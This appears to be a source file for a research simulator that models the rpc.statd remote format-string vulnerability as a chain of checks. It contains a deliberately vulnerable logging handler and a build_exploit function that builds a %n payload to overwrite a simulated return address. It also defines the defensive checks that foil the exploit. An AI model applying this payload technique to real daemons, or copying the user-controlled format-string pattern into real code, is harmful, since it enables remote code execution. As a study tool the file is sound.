@@ -1,0 +1,193 @@
+#include "apps/rpcstatd.h"
+
+#include "libcsim/cstring.h"
+#include "libcsim/format.h"
+
+namespace dfsm::apps {
+
+using core::Object;
+using core::Pfsm;
+using core::PfsmType;
+using core::Predicate;
+using memsim::Addr;
+
+RpcStatd::RpcStatd(RpcStatdChecks checks, bool with_canary)
+    : checks_(checks),
+      proc_(SandboxOptions{/*stack_canaries=*/with_canary,
+                           /*heap_safe_unlink=*/false}) {
+  svc_run_ = proc_.cpu().register_function("svc_run");
+}
+
+Addr RpcStatd::ret_slot() const noexcept {
+  // First frame pushed on a fresh stack: the ret slot is the top 8 bytes.
+  return SandboxProcess::kStackBase + SandboxProcess::kStackSize - 8;
+}
+
+RpcStatdResult RpcStatd::handle_mon_request(const std::string& filename) {
+  RpcStatdResult r;
+
+  // pFSM1: "the system should check whether format directives are not
+  // embedded in the input".
+  if (checks_.no_format_directives &&
+      libcsim::FormatEngine::contains_directives(filename)) {
+    r.rejected = true;
+    r.rejected_by = "pFSM1";
+    r.detail = "filename contains format directives — request refused";
+    return r;
+  }
+
+  auto frame = proc_.stack().push_frame(
+      "statd_log", svc_run_, {{"logbuf", kLogBufferSize}});
+  const Addr logbuf = frame.locals.at("logbuf");
+
+  // The daemon builds its log line in a stack buffer...
+  libcsim::c_strcpy(proc_.mem(), logbuf, filename);
+
+  // ...and passes that buffer to syslog() AS THE FORMAT STRING. printf's
+  // argument walk starts in the caller frame region — i.e. inside logbuf
+  // itself, where the attacker's bytes are.
+  libcsim::FormatEngine fmt{proc_.mem()};
+  const libcsim::ArgProvider args{proc_.mem(), {}, /*vararg_base=*/logbuf};
+  const std::string fmt_string = proc_.mem().read_cstring(logbuf);
+  const auto res = fmt.format_to_string(fmt_string, args, /*materialize_cap=*/4096);
+  r.n_stores = res.n_stores;
+  r.logged = true;
+
+  const auto ret = proc_.stack().pop_frame(frame);
+  r.ret_modified = ret.ret_modified;
+  r.canary_intact = ret.canary_intact;  // %n skips the canary entirely
+  if (checks_.ret_consistency && ret.ret_modified) {
+    r.rejected = true;
+    r.rejected_by = "pFSM2";
+    r.detail = "saved return address changed — split-stack consistency check "
+               "aborts the return";
+    return r;
+  }
+  const auto landing = proc_.cpu().dispatch(ret.return_address);
+  proc_.cpu().count_landing(landing);
+  switch (landing.kind) {
+    case memsim::LandingKind::kFunction:
+      r.detail = "statd_log returned to " + landing.function;
+      break;
+    case memsim::LandingKind::kMcode:
+      r.mcode_executed = true;
+      r.detail = "return address rewritten by %n — control transferred to Mcode";
+      break;
+    case memsim::LandingKind::kWild:
+      r.crashed = true;
+      r.detail = "wild return address (SIGSEGV)";
+      break;
+  }
+  return r;
+}
+
+std::string RpcStatd::build_exploit() const {
+  // Layout: [directives][pad 'A' to offset 24][3 low bytes of ret slot].
+  // %<mcode>c makes the output count equal the Mcode address; %4$n stores
+  // that count through argument word 3 = read64(logbuf + 24) = ret slot
+  // (its bytes 3..7 are the zeros the strcpy terminator and the fresh
+  // stack provide).
+  const Addr target_value = proc_.mcode();
+  const Addr slot = ret_slot();
+  std::string payload = "%" + std::to_string(target_value) + "c%4$n";
+  if (payload.size() > 24) {
+    throw std::logic_error("statd exploit directives exceed the pad area");
+  }
+  payload.append(24 - payload.size(), 'A');
+  payload.push_back(static_cast<char>(slot & 0xFF));
+  payload.push_back(static_cast<char>((slot >> 8) & 0xFF));
+  payload.push_back(static_cast<char>((slot >> 16) & 0xFF));
+  return payload;
+}
+
+core::FsmModel RpcStatd::statd_model() {
+  Predicate spec1{
+      "the filename contains no format directives (e.g. %n, %d)",
+      [](const Object& o) {
+        const auto s = o.attr_string("filename");
+        return s && !libcsim::FormatEngine::contains_directives(*s);
+      }};
+  Pfsm pfsm1 = Pfsm::unchecked(
+      "pFSM1", PfsmType::kContentAttributeCheck,
+      "get the filename from the SM_MON request and log it",
+      std::move(spec1), "syslog(LOG_ERR, buf) with user data as the format");
+
+  Predicate spec2{"the saved return address is unchanged", [](const Object& o) {
+                    return o.attr_bool("ret_unchanged").value_or(false);
+                  }};
+  Pfsm pfsm2 = Pfsm::unchecked(
+      "pFSM2", PfsmType::kReferenceConsistencyCheck,
+      "return from the logging function",
+      std::move(spec2), "jump to the saved return address");
+
+  core::Operation op1{"Log the caller-supplied filename", "the filename string"};
+  op1.add(std::move(pfsm1));
+  core::Operation op2{"Return from the logging function",
+                      "the saved return address"};
+  op2.add(std::move(pfsm2));
+
+  core::ExploitChain chain{"rpc.statd remote format string"};
+  chain.add(std::move(op1),
+            core::PropagationGate{
+                "%n stores the attacker-chosen count over the saved return address"});
+  chain.add(std::move(op2), core::PropagationGate{"Execute Mcode"});
+
+  return core::FsmModel{"rpc.statd Remote Format String ([21])",
+                        {1480},
+                        "Format String",
+                        "rpc.statd (Multiple Linux Vendors)",
+                        "remote root: Mcode runs in the statd process",
+                        std::move(chain)};
+}
+
+namespace {
+
+class RpcStatdCaseStudy final : public CaseStudy {
+ public:
+  [[nodiscard]] std::string name() const override {
+    return "rpc.statd #1480 remote format string";
+  }
+
+  [[nodiscard]] std::vector<CheckSpec> checks() const override {
+    return {
+        {"pFSM1: no format directives in the input", 0,
+         PfsmType::kContentAttributeCheck},
+        {"pFSM2: return address unchanged (split-stack)", 1,
+         PfsmType::kReferenceConsistencyCheck},
+    };
+  }
+
+  [[nodiscard]] RunOutcome run_exploit(const std::vector<bool>& enabled) const override {
+    require_mask(*this, enabled);
+    RpcStatd app{RpcStatdChecks{enabled[0], enabled[1]}};
+    const auto r = app.handle_mon_request(app.build_exploit());
+    RunOutcome out;
+    out.exploited = r.mcode_executed;
+    out.foiled = r.rejected;
+    out.crashed = r.crashed;
+    out.detail = r.detail;
+    return out;
+  }
+
+  [[nodiscard]] RunOutcome run_benign(const std::vector<bool>& enabled) const override {
+    require_mask(*this, enabled);
+    RpcStatd app{RpcStatdChecks{enabled[0], enabled[1]}};
+    const auto r = app.handle_mon_request("/var/lib/nfs/state");
+    RunOutcome out;
+    out.service_ok = r.logged && !r.rejected && !r.crashed && !r.mcode_executed;
+    out.detail = r.detail;
+    return out;
+  }
+
+  [[nodiscard]] core::FsmModel model() const override {
+    return RpcStatd::statd_model();
+  }
+};
+
+}  // namespace
+
+std::unique_ptr<CaseStudy> make_rpcstatd_case_study() {
+  return std::make_unique<RpcStatdCaseStudy>();
+}
+
+}  // namespace dfsm::apps
